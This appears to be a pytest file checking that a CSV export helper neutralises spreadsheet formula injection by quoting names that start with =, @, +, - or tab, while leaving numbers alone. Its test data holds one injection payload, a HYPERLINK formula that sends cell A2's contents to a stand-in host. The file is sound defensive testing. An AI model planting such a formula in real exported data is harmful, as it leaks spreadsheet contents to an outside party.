"""Names in CSV files: no spreadsheet computes them, and numbers stay numbers."""

import csv
import io
from types import SimpleNamespace

import pytest

from rankgym.experiments.run.tidy_tables import for_spreadsheets
from rankgym.experiments.show.tables import csv_text
from rankgym.outputs import csv_cell

FORMULA = '=HYPERLINK("http://x.example/?"&A2,"toprank")'
NAMES = {
    FORMULA: f"'{FORMULA}",
    "@x": "'@x",
    "+1": "'+1",
    "-x": "'-x",
    "\tx": "'\tx",
    "a=b": "a=b",
    "toprank": "toprank",
}


def test_names_get_a_quote_and_numbers_do_not():
    assert {name: csv_cell(name) for name in NAMES} == NAMES
    assert [csv_cell(value) for value in (-1.5, 0, None)] == [-1.5, 0, None]


def test_table_csv():
    table = [{"agent": name, "regret": -0.5} for name in NAMES]
    lines = list(csv.DictReader(io.StringIO(csv_text(SimpleNamespace(table=lambda: table)))))
    assert [line["agent"] for line in lines] == list(NAMES.values())
    assert {line["regret"] for line in lines} == {"-0.5"}


def test_the_exported_table():
    pyarrow = pytest.importorskip("pyarrow")
    names = pyarrow.array([*NAMES, None]).dictionary_encode()
    table = for_spreadsheets(pyarrow.table({"agent": names, "regret": [-1.0] * (len(NAMES) + 1)}))
    assert table["agent"].to_pylist() == [*NAMES.values(), None]
    assert table["regret"].to_pylist() == [-1.0] * (len(NAMES) + 1)
